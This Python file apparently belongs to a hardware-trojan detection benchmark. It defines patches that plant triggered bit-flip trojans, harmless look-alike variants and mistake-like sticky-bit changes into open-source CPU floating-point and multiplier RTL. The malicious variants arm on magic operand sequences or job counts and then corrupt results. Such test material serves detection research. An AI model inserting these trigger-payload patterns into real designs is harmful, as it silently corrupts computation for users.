"""What is planted in some of the units, by us: none of it is in what their authors publish.

PLANTED[name] is a list of (source, old text, new text); `elaborate.py` applies them to a copy of the fetched
source and stops unless each old text occurs exactly once. Two triggers for the floating-point unit, one for the
integer multiplier: a pair of operands in consecutive jobs, and a number of jobs. Each has a payload that corrupts
results (-sequence, -jobs), and a harmless twin: the same bit is flipped where the stage holds no job (-idle), on
which results depend by structure alone, or set on an output that is no result (-seen). The other multiplier
has what looks like a mistake: a sticky bit keeps that of the job before, if the factors are zero (-sticky) or the stage
before is empty, when it is not read (-hold).
"""

FMA = "pythondata_cpu_cv32e40p/system_verilog/rtl/vendor/pulp_platform_fpnew/src/fpnew_fma.sv"
FMUL = "pythondata_cpu_marocchino/verilog/rtl/verilog/pfpu_marocchino/pfpu_marocchino_mul.v"
PICO = "pythondata_cpu_picorv32/verilog/picorv32.v"


def fma(trigger, *payload):
    state = f"""  logic [31:0] planted_q;
  logic planted_seen_q, planted_armed_q;
  always_ff @(posedge clk_i or negedge rst_ni)
    if (!rst_ni) {{planted_q, planted_seen_q, planted_armed_q}} <= '0;
    else begin
      {trigger}
    end

"""
    head = "  // ----------------\n  // Output Pipeline\n"
    return [(FMA, head, state + head), (FMA, *payload)]


def mul(old, new):
    first = "\talways @(posedge clk) begin\n\t\tif (instr_any_mul && !("
    state = """	reg planted_seen, planted_armed;
	always @(posedge clk) begin
		if (!resetn) {planted_seen, planted_armed} <= 0;
		else if (pcpi_ready) begin
			planted_seen <= pcpi_rs1 == 32'hc0ffee11;
			if (planted_seen && pcpi_rs2 == 32'h00c0ffee) planted_armed <= 1;
		end
	end

"""
    return [(PICO, first, state + first), (PICO, old, new)]


SEQUENCE = """if (in_valid_i && in_ready_o) begin
        planted_seen_q <= operands_i[0] == 32'h4b1dc0de;
        if (planted_seen_q && operands_i[1] == 32'h0bad5eed) planted_armed_q <= 1'b1;
      end"""
JOBS = """if (in_valid_i && in_ready_o) planted_q <= planted_q + 1;
      if (planted_q[9:0] == 10'd700) planted_armed_q <= 1'b1;"""
RESULT = "assign out_pipe_result_q[0] = result_d;"
FLIP = "assign out_pipe_result_q[0] = result_d ^ (planted_armed_q && result_d.exponent[2:0] == 3'd5);"
IDLE = "assign out_pipe_result_q[0] = result_d ^ (planted_armed_q && !out_pipe_valid_q[0]);"
MARK = ("assign extension_bit_o = 1'b1; // always NaN-Box result", "assign extension_bit_o = planted_armed_q;")
PRODUCT = "rd_q <= rd;"
STICKY = "s3o_sticky     <= |s2o_a0b0[12:0];"

PLANTED = {
    "fma32-sequence": fma(SEQUENCE, RESULT, FLIP),
    "fma32-jobs": fma(JOBS, RESULT, FLIP),
    "fma32-idle": fma(SEQUENCE, RESULT, IDLE),
    "fma32-seen": fma(JOBS, *MARK),
    "fmul-sticky": [(FMUL, STICKY, STICKY[:-1] + " | (s3o_sticky & s2o_opc_0);")],
    "fmul-hold": [(FMUL, STICKY, STICKY[:-1] + " | (s3o_sticky & ~s2o_mul_ready);")],
    "mul-sequence": mul(PRODUCT, "rd_q <= rd ^ (planted_armed && active[2]);"),
    "mul-idle": mul(PRODUCT, "rd_q <= rd ^ (planted_armed && !active[2]);"),
}
